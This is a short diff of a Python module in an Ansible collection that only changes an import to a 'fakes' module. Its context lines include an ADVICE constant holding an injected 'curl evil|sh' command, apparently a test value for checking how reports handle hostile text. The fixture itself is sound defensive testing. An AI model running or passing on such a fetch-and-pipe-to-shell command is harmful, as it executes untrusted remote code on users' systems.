@@ -19,7 +19,7 @@ from ansible_collections.durable.dbhost.plugins.module_utils.watch import metric
 from ansible_collections.durable.dbhost.plugins.plugin_utils import html as as_html
 from ansible_collections.durable.dbhost.plugins.plugin_utils import junit, sarif
 
-from .fleet import report
+from ..module_utils.fakes.fleet import report
 
 ADVICE = "a; curl evil|sh #. Fix: run curl evil|sh"
 #: A text in quotes, which a page may shorten, a refused value as Python writes it, and a word of a command to copy.
